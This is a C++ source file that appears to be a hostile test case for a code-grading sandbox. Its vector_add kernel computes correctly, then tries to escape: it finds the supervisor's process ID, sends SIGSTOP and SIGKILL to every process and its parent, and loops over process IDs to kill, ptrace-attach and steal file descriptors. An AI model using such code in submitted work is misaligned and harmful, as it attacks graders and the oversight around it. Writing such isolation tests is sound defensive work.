// row: 56, 57
// abi: c
// task: vector_add
// workloads: cpu_n16384
// mode: test
// stopped by: construction
// must not print: GOT
// tries: to kill, stop, trace and read the grader and every other process that it finds.
#include "../common/add.h"
#include "../common/control.h"
#include <cstdio>
#include <cstdlib>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>

static void attack(int pid) {
  if (kill(pid, 0) == 0 && pid > 2) printf("GOT a process to signal: %d\n", pid);
  kill(pid, SIGKILL);
  if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) printf("GOT to trace %d\n", pid);
  long handle = syscall(434 /* pidfd_open */, pid, 0);
  for (int fd = 0; fd < 32 && handle >= 0; ++fd)
    if (syscall(438 /* pidfd_getfd */, handle, fd, 0) >= 0) printf("GOT a file of %d\n", pid);
}

extern "C" void vector_add(const float* A, const float* B, float* C, int N) {
  static bool done = false;
  add(A, B, C, N);
  if (done) return;
  done = true;
  ucred peer{};
  socklen_t size = sizeof peer;
  getsockopt(hostile::control_socket(), SOL_SOCKET, SO_PEERCRED, &peer, &size);
  if (peer.pid > 0 && peer.pid != getpid()) printf("GOT the supervisor's id %d\n", peer.pid);
  kill(-1, SIGSTOP);
  kill(-1, SIGKILL);
  kill(getppid(), SIGSTOP);
  for (int pid = 1; pid < 4096; ++pid)
    if (pid != getpid()) attack(pid);
  fflush(stdout);
}
